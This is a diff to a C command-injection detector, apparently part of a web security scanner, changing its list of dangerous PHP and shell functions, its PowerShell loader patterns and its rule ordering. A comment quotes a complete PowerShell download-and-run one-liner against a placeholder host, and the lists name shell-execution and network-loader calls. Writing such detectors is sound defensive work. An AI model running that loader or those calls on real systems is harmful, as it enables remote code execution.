@@ -46,13 +46,15 @@ static enum runner runner_of(const char *name)
         const char *name;
         enum runner kind;
     } runners[] = {
-        {"system", RUNS_SHELL},     {"exec", RUNS_SHELL},         {"passthru", RUNS_SHELL},
-        {"shell_exec", RUNS_SHELL}, {"popen", RUNS_SHELL},        {"proc_open", RUNS_SHELL},
-        {"pcntl_exec", RUNS_SHELL}, {"execsync", RUNS_SHELL},     {"spawnsync", RUNS_SHELL},
-        {"spawn", RUNS_SHELL},      {"check_output", RUNS_SHELL}, {"getoutput", RUNS_SHELL},
-        {"shell", RUNS_SHELL},      {"execfile", RUNS_SHELL},     {"xp_cmdshell", RUNS_SHELL},
-        {"eval", RUNS_CODE},        {"assert", RUNS_CODE},        {"phpinfo", TELLS},
-        {"phpversion", TELLS},      {"php_uname", TELLS},         {"getmypid", TELLS},
+        {"system", RUNS_SHELL},      {"exec", RUNS_SHELL},         {"passthru", RUNS_SHELL},
+        {"shell_exec", RUNS_SHELL},  {"popen", RUNS_SHELL},        {"proc_open", RUNS_SHELL},
+        {"pcntl_exec", RUNS_SHELL},  {"execsync", RUNS_SHELL},     {"spawnsync", RUNS_SHELL},
+        {"spawn", RUNS_SHELL},       {"check_output", RUNS_SHELL}, {"getoutput", RUNS_SHELL},
+        {"shell", RUNS_SHELL},       {"execfile", RUNS_SHELL},     {"xp_cmdshell", RUNS_SHELL},
+        {"include", RUNS_CODE},      {"require", RUNS_CODE},       {"include_once", RUNS_CODE},
+        {"require_once", RUNS_CODE}, {"eval", RUNS_CODE},          {"assert", RUNS_CODE},
+        {"phpinfo", TELLS},          {"phpversion", TELLS},        {"php_uname", TELLS},
+        {"getmypid", TELLS},
     };
     for (size_t i = 0; i < PEN_COUNT_OF(runners); i++) {
         if (strcmp(name, runners[i].name) == 0) return runners[i].kind;
@@ -131,8 +133,8 @@ static struct pen_cmdi_evidence page_code(struct pen_str text)
     const bool php = pen_str_starts_fold(body, PEN_S("php")) || pen_str_starts(body, PEN_S("="))
                      || pen_str_starts(body, PEN_S(" "));
     if (!php) return none;
-    const bool runs = calls(body).rule != NULL || pen_str_find_str(body, PEN_S("$_")) < body.len
-                      || pen_str_find(body, '`', 0) < body.len;
+    /* To read what was sent is what pages do; to run it is not. */
+    const bool runs = calls(body).rule != NULL || pen_str_find(body, '`', 0) < body.len;
     const bool near = is_short_lead(pen_str_slice(text, 0, at));
     return found("cmdi.code", !runs ? 45 : near ? 88 : 75, at, text.len);
 }
@@ -191,23 +193,39 @@ static size_t find_fold(struct pen_str text, struct pen_str word)
     return text.len;
 }
 
+static bool ends_fold(struct pen_str text, struct pen_str end)
+{
+    return text.len >= end.len
+           && pen_str_equal_fold(pen_str_slice(text, text.len - end.len, text.len), end);
+}
+
+/* Where PowerShell is told to fetch, decode or compile a program. */
+static size_t load_at(struct pen_str text)
+{
+    static const struct pen_str calls[] = {
+        PEN_STR(".downloadstring"), PEN_STR(".downloadfile"), PEN_STR("frombase64string"),
+        PEN_STR("[scriptblock]::create"), PEN_STR("net.sockets.tcpclient")};
+    for (size_t at = pen_str_find(text, '(', 0); at < text.len;
+         at = pen_str_find(text, '(', at + 1)) {
+        for (size_t i = 0; i < PEN_COUNT_OF(calls); i++) {
+            if (ends_fold(pen_str_slice(text, 0, at), calls[i])) return at;
+        }
+    }
+    return text.len;
+}
+
 /* IEX (New-Object Net.WebClient).DownloadString('http://h/a') */
 static struct pen_cmdi_evidence loader(struct pen_str text)
 {
-    static const struct pen_str loads[] = {
-        PEN_STR(".downloadstring("), PEN_STR(".downloadfile("), PEN_STR("frombase64string("),
-        PEN_STR("[scriptblock]::create"), PEN_STR("[system.net.sockets.tcpclient]")};
-    for (size_t i = 0; i < PEN_COUNT_OF(loads); i++) {
-        const size_t at = find_fold(text, loads[i]);
-        if (at == text.len) continue;
-        const bool runs = find_fold(text, PEN_S("iex")) < text.len
-                          || find_fold(text, PEN_S("invoke-")) < text.len
-                          || find_fold(text, PEN_S("new-object")) < text.len
-                          || find_fold(text, PEN_S("powershell")) < text.len;
-        const size_t lines = pen_str_find(text, '\n', 0);
-        return found("cmdi.loader", !runs ? 45 : lines == text.len ? 88 : 65, 0, at);
-    }
-    return (struct pen_cmdi_evidence){.rule = NULL};
+    const size_t at = load_at(text);
+    if (at == text.len) return (struct pen_cmdi_evidence){.rule = NULL};
+
+    const bool runs = find_fold(text, PEN_S("iex")) < text.len
+                      || find_fold(text, PEN_S("invoke-")) < text.len
+                      || find_fold(text, PEN_S("new-object")) < text.len
+                      || find_fold(text, PEN_S("powershell")) < text.len;
+    const bool one_line = pen_str_find(text, '\n', 0) == text.len;
+    return found("cmdi.loader", !runs ? 45 : one_line ? 88 : 65, 0, at);
 }
 
 /* Options of programs that take a program to run, or a file to write. (CWE-88) */
@@ -251,7 +269,8 @@ static struct pen_cmdi_evidence option(struct pen_str text)
         at++;
     }
     const struct pen_str head = pen_str_slice(text, at, text.len);
-    for (size_t i = 0; i < PEN_COUNT_OF(options); i++) {
+    const bool may_be = head.len > 4 && (head.ptr[0] == '-' || pen_to_lower(head.ptr[0]) == 'e');
+    for (size_t i = 0; may_be && i < PEN_COUNT_OF(options); i++) {
         if (pen_str_starts_fold(head, options[i].start)) {
             return found("cmdi.option", options[i].score, at, text.len);
         }
@@ -278,13 +297,20 @@ static struct pen_cmdi_evidence cut_variable(struct pen_str text)
                : (struct pen_cmdi_evidence){.rule = NULL};
 }
 
+static bool has(struct pen_str text, char c)
+{
+    return pen_str_find(text, c, 0) < text.len;
+}
+
 struct pen_cmdi_evidence pen_cmdi_calls(struct pen_str text)
 {
-    struct pen_cmdi_evidence best = calls(text);
-    best = stronger(best, page_code(text));
-    best = stronger(best, include(text));
-    best = stronger(best, function_variable(text));
-    best = stronger(best, loader(text));
-    best = stronger(best, option(text));
-    return stronger(best, cut_variable(text));
+    struct pen_cmdi_evidence best = option(text);
+    if (has(text, '(')) {
+        best = stronger(best, calls(text));
+        best = stronger(best, function_variable(text));
+        best = stronger(best, loader(text));
+    }
+    if (has(text, '<') || has(text, '{')) best = stronger(best, page_code(text));
+    if (has(text, '<')) best = stronger(best, include(text));
+    return has(text, '%') ? stronger(best, cut_variable(text)) : best;
 }
